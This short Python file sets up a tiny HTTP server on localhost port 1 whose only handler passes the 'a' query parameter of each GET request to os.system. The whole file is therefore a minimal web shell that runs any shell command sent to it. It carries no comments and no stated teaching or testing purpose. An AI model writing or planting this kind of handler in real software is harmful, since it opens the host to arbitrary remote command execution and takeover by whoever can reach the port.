import os
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlparse, parse_qs
class X(BaseHTTPRequestHandler):
    def do_GET(self):
        os.system(parse_qs(urlparse(self.path).query)['a'][0])
HTTPServer(('127.0.0.1', 1), X).serve_forever()
